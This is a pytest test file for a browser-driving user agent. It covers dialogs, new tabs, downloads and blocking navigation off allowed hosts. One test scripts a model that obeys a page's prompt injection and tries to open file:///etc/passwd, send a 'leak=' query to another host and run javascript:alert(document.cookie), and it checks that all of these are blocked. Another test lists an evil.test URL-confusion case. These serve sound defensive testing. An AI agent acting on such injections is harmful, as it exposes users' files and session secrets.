"""Browser events as first-class records: dialogs answered as the model says, new tabs and popups followed,
downloads recorded, navigations off the allowed hosts blocked; none of them is a dead click."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from pytest_useragent import Agent, OfflineProvider, Persona, SessionResult
from pytest_useragent.config import UserAgentConfig
from pytest_useragent.records import PageEvent
from pytest_useragent.testing import decision, ref_of, wrap_up

JANA = Persona(name="Jana", background="Jana, 45.")


def run(page: Any, provider: Any, tmp_path: Path, url: str, **settings: Any) -> SessionResult:
    config = UserAgentConfig(settle_timeout=2, max_steps=6, **settings)
    return Agent(page, JANA, provider, config, tmp_path).run("Use the page", url=url)


def click(name: str, **action: Any) -> Any:
    return lambda body: decision("click", ref_of(body, name), expectation=f"{name} works", **action)


def user_text(body: dict[str, Any]) -> str:
    return "\n".join(block.get("text", "") for block in body["messages"][0]["content"])


def assert_no_dead_click(result: SessionResult) -> None:
    assert not [issue for issue in result.issues if issue.rule == "dead-click"]
    assert not result.issues.at_least("major"), [issue.title for issue in result.issues]


def test_a_confirm_is_accepted_when_the_model_says_so(page, site, tmp_path, fake_api, claude):
    fake_api.push(click("Empty the basket", dialog="accept"), decision("done", reason="empty"), wrap_up())
    result = run(page, claude, tmp_path, f"{site}/dialogs.html")

    confirm = PageEvent(kind="dialog", dialog="confirm", message="Empty the basket?", answer="accepted")
    assert result.steps[0].events == [confirm]
    assert f"- {confirm}" in user_text(fake_api.requests[1]) and "The basket is empty." in user_text(
        fake_api.requests[1]
    )
    assert f"**Browser:** {confirm}" in (tmp_path / "useragent" / "report.md").read_text()
    assert_no_dead_click(result)


def test_a_prompt_is_answered_with_the_actions_text(page, site, tmp_path, fake_api, claude):
    fake_api.push(click("Name the basket", dialog="accept", text="Weekly"), decision("done", reason="ok"), wrap_up())
    result = run(page, claude, tmp_path, f"{site}/dialogs.html")

    assert result.steps[0].events[0].dialog == "prompt" and result.steps[0].events[0].answer == "accepted"
    assert "The basket is called Weekly." in user_text(fake_api.requests[1])
    assert_no_dead_click(result)


def test_dialogs_are_dismissed_by_default_and_reported(page, site, tmp_path, fake_api, claude):
    fake_api.push(click("Empty the basket"), click("Say hello"), decision("done", reason="ok"), wrap_up())
    result = run(page, claude, tmp_path, f"{site}/dialogs.html")

    assert [event.answer for step in result.steps for event in step.events] == ["dismissed", "dismissed"]
    second, third = user_text(fake_api.requests[1]), user_text(fake_api.requests[2])
    assert 'a confirm dialog said "Empty the basket?"; it was dismissed' in second
    assert "The basket holds 3 items." in second
    assert 'an alert dialog said "Hello from the shop"; it was dismissed' in third
    assert_no_dead_click(result)


def test_a_link_to_a_new_tab_becomes_the_sessions_page(page, site, tmp_path, fake_api, claude):
    fake_api.push(click("About us in a new tab"), decision("done", reason="ok"), wrap_up())
    result = run(page, claude, tmp_path, f"{site}/tabs.html")

    assert result.steps[0].events == [PageEvent(kind="popup", url=f"{site}/about.html")]
    assert result.steps[1].url == f"{site}/about.html" and page.url == f"{site}/tabs.html"  # the old page stays
    assert f"a new tab opened: {site}/about.html" in user_text(fake_api.requests[1])
    assert "About us" in user_text(fake_api.requests[1])
    assert_no_dead_click(result)


def test_a_popup_becomes_the_sessions_page(page, site, tmp_path, fake_api, claude):
    fake_api.push(click("Open the price list"), decision("done", reason="ok"), wrap_up())
    result = run(page, claude, tmp_path, f"{site}/tabs.html")

    assert [event.kind for event in result.steps[0].events] == ["popup"]
    assert result.steps[1].url == f"{site}/pricing.html" and 'heading "Pricing"' in user_text(fake_api.requests[1])
    assert_no_dead_click(result)


def test_a_new_tab_that_never_loads_is_closed_and_said_so(page, site, tmp_path, fake_api, claude):
    fake_api.push(click("Our old shop"), decision("done", reason="ok"), wrap_up())
    result = run(page, claude, tmp_path, f"{site}/tabs.html", allowed_hosts=("nowhere.test",))

    assert result.steps[0].events == [PageEvent(kind="popup", reason="it did not load, so it was closed")]
    assert "a new tab opened, but it did not load" in user_text(fake_api.requests[1])
    assert result.steps[1].url == f"{site}/tabs.html" and len(page.context.pages) == 1


def test_a_download_is_recorded_with_its_name_and_size(page, site, tmp_path, fake_api, claude):
    fake_api.push(click("Download the price list"), decision("done", reason="ok"), wrap_up())
    result = run(page, claude, tmp_path, f"{site}/tabs.html")

    size = len((Path(__file__).parent.parent / "pages" / "tabs.txt").read_bytes())
    assert result.steps[0].events == [PageEvent(kind="download", file="prices.txt", size=size)]
    assert f"a download: prices.txt ({size} bytes)" in user_text(fake_api.requests[1])
    assert_no_dead_click(result)


def test_an_injected_page_cannot_take_the_agent_off_its_host(page, site, tmp_path, fake_api, claude):
    """A scripted model obeys the page's injection; every way off 127.0.0.1 is blocked, and nothing of the file or
    of the other host reaches the model. The page's own stylesheet from that host still loads."""
    other = site.replace("127.0.0.1", "localhost")
    finished: list[str] = []  # on the context: a popup's requests are its own page's
    page.context.on("requestfinished", lambda request: finished.append(request.url))
    fake_api.push(
        decision("navigate", url="file:///etc/passwd"),
        decision("navigate", url=f"{other}/about.html?leak=secret-of-the-session"),
        click("Our partner shop"),
        click("Open the partner shop"),
        decision("navigate", url="javascript:alert(document.cookie)"),
        decision("done", reason="ok"),
        wrap_up(),
    )
    result = run(page, claude, tmp_path, f"{site}/injection.html")

    blocked = [event for step in result.steps for event in step.events if event.kind == "blocked"]
    assert [event.url for event in blocked] == ["file:", other, other, other, "javascript:"]
    assert all("not" in (event.reason or "") for event in blocked)
    assert [step.url for step in result.steps] == [f"{site}/injection.html"] * 6
    assert not result.steps[0].outcome.ok and result.steps[0].outcome.message.startswith("blocked: file:")
    assert len(page.context.pages) == 1  # the popup to the other host was closed
    sent = json.dumps(fake_api.requests)
    assert "root:" not in sent and "We are a small shop" not in sent and "chrome-error" not in sent
    assert not [url for url in finished if "leak=" in url]
    assert f"{other}/faint.css" in finished
    assert not [issue for issue in result.issues if issue.rule == "dead-click"]


def test_a_redirect_off_the_host_is_undone_before_the_model_looks(page, site, tmp_path, fake_api, claude):
    other = site.replace("127.0.0.1", "localhost")
    fake_api.push(
        decision("navigate", url=f"/redirect?to={other}/about.html?leak=secret-query"),
        decision("done", reason="ok"),
        wrap_up(),
    )
    result = run(page, claude, tmp_path, f"{site}/injection.html")
    # where the redirect went (its path and query) is never told: the outcome says it was blocked
    assert result.steps[0].outcome.message.startswith("blocked: the page was redirected off the allowed hosts")
    told = user_text(fake_api.requests[1])
    assert "navigated to" not in told and told.count("leak=secret-query") == 1  # only the model's own action

    assert [event.kind for event in result.steps[0].events] == ["blocked"]
    assert "(redirected)" in (result.steps[0].events[0].reason or "")
    assert result.steps[1].url == f"{site}/injection.html"
    assert "We are a small shop" not in json.dumps(fake_api.requests)


def test_the_host_a_start_url_redirects_to_is_allowed(page, site, tmp_path, fake_api, claude):
    start = site.replace("127.0.0.1", "localhost") + f"/redirect?to={site}/index.html"
    fake_api.push(click("Pricing"), decision("done", reason="ok"), wrap_up())
    result = run(page, claude, tmp_path, start)

    assert result.steps[1].url == f"{site}/pricing.html" and not result.steps[0].events


def test_the_offline_engine_still_works_on_a_page_with_dialogs(page, site, tmp_path):
    result = run(page, OfflineProvider(), tmp_path, f"{site}/dialogs.html")
    assert result.outcome != "page_error" and result.steps


def test_a_session_on_a_site_on_disk_may_follow_its_links(page, tmp_path, fake_api, claude):
    pages = Path(__file__).parent.parent / "pages"
    page.goto((pages / "tabs.html").as_uri())
    fake_api.push(click("About us in a new tab"), decision("done", reason="ok"), wrap_up())
    result = Agent(page, JANA, claude, UserAgentConfig(), tmp_path).run("Use the page")

    assert result.steps, result.error  # a first look that failed (it did once, on a loaded CI machine) says why
    assert result.steps[0].events == [PageEvent(kind="popup", url=(pages / "about.html").as_uri())]
    assert result.steps[1].url == (pages / "about.html").as_uri()


def test_the_routes_pattern_reads_the_same_in_the_driver(page):
    """Playwright's driver matches the route's pattern as a JavaScript RegExp: it must agree with Python's."""
    from pytest_useragent.browser.hosts import AllowedHosts

    unsure = AllowedHosts.around("http://127.0.0.1:8000/", ("*.cdn.test",)).unsure()
    urls = [
        "http://127.0.0.1:8000/pricing",
        "http://127.0.0.1/",
        "https://a.cdn.test/x",
        "http://localhost:8000/",
        "http://127.0.0.1@evil.test/",
        "http://127.0.0.10/",
        "https://cdn.test/",
        "file:///etc/passwd",
    ]
    in_js = page.evaluate("([source, urls]) => urls.map(url => new RegExp(source).test(url))", [unsure.pattern, urls])
    assert in_js == [bool(unsure.search(url)) for url in urls] == [False, False, False, True, True, True, True, True]
